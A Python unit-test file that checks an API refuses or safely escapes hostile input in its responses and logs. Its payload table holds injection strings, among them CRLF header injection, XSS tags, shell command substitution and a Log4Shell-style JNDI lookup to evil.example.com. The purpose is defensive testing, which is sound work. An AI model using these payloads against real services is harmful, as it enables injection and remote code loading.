"""Output: what comes back, and what is logged, is never read as anything but text.

The CSV export and its formulas come with the export.
"""

import json
from io import StringIO

import pytest

from tests.unit.api.world import World
from tests.unit.fakes.people import MANAGER
from tests.unit.fakes.resources import resource_row
from tests.unit.input.refusal import (
    BUCKETS,
    INVALID,
    NAME,
    SPEC,
    UNKNOWN,
    WRONG_SPEC,
    Case,
    assert_harmless,
    assert_refused,
    headers,
)

TEXTS = {
    "CR LF": "a\r\nLocation: https://evil.example.com",
    "a forged line of the log": 'a\n{"level":"INFO","message":"answered","status":200}',
    "ANSI": "a\x1b[2J\x1b[31mowned",
    "an ANSI title": "a\x1b]0;owned\x07",
    "8-bit ANSI": "a\x9b31m",
    "a bell and a backspace": "a\x07\x08\x08",
    "an override of direction": "a\u202egnp.exe",
    "a line separator": "a\u2028b",
    "a next line": "a\x85b",
    "a tag": "<img src=x onerror=alert(1)>",
    "the end of a script": "</script><script>alert(1)</script>",
    "quotes": "a\"'`b",
    "a backslash": "a\\",
    "a format": "%s%n{0}{self}",
    "a variable of the shell": "$(id)`id`${IFS}",
    "a look-up of Java": "${jndi:ldap://evil.example.com/x}",
}
EACH = pytest.mark.parametrize("what", TEXTS)
NO_SLASH = [what for what, text in TEXTS.items() if "/" not in text]


@pytest.mark.parametrize("what", NO_SLASH)
def test_a_hostile_project_is_not_found(house: World, log: StringIO, what: str) -> None:
    """The answer names it inside a JSON text, the log inside another."""
    assert_refused(house, log, Case(what, UNKNOWN, None, "GET", f"/v1/projects/{TEXTS[what]}/resources"))

    [line] = map(json.loads, filter(None, log.getvalue().split("\n")))
    assert (line["project"], line["status"]) == (TEXTS[what], 404)


@pytest.mark.parametrize("what", NO_SLASH)
def test_a_hostile_name_is_refused(house: World, log: StringIO, what: str) -> None:
    """The name's fault is told without the name, and the log has none of it."""
    case = Case(what, WRONG_SPEC, "", path=f"{BUCKETS}/{TEXTS[what]}", fields={"json": SPEC})

    assert_refused(house, log, case)

    assert TEXTS[what][1:] not in log.getvalue()


@EACH
def test_a_hostile_field_is_named_in_a_pointer_alone(house: World, log: StringIO, what: str) -> None:
    """An unknown field comes back as a JSON Pointer in an answer that no browser renders."""
    assert_refused(house, log, Case(what, fields={"json": {**SPEC, TEXTS[what]: 1}}))

    assert "owned" not in log.getvalue()


@EACH
def test_a_hostile_parameter_is_refused(house: World, log: StringIO, what: str) -> None:
    """An unknown parameter's name comes back quoted and cut."""
    fields = {"query": {TEXTS[what]: TEXTS[what]}}

    assert_refused(
        house, log, Case(what, (400, "invalid-request"), None, "GET", "/v1/projects/apollo/changes", fields=fields)
    )


@EACH
@pytest.mark.parametrize("header", ["if_match", "if_none_match"])
def test_a_hostile_header_is_refused(house: World, log: StringIO, what: str, header: str) -> None:
    """No header comes back as one."""
    assert_refused(house, log, headers(what, INVALID, **{header: TEXTS[what]}))


@EACH
def test_a_hostile_method_is_405(house: World, log: StringIO, what: str) -> None:
    """It is logged escaped, and `Allow` lists our methods."""
    reply = assert_refused(house, log, Case(what, (405, "method-not-allowed"), None, TEXTS[what], "/v1/me"))

    assert reply.headers["allow"] == "GET"


@EACH
def test_what_was_stored_comes_back_as_json_that_no_browser_renders(house: World, what: str) -> None:
    """Whatever a row holds, however it came there: JSON of printable ASCII, nosniff, no HTML."""
    house.fake_resources.put(resource_row("apollo", "bucket", NAME, spec={**SPEC, "description": TEXTS[what]}))

    one = house.call("GET", f"{BUCKETS}/{NAME}", person=MANAGER)
    many = house.call("GET", "/v1/projects/apollo/resources", person=MANAGER)

    for reply, resource in ((one, one.json), (many, many.json["items"][0])):
        assert (reply.status, reply.headers["content-type"]) == (200, "application/json")
        assert_harmless(reply)
        assert resource["spec"]["description"] == TEXTS[what]
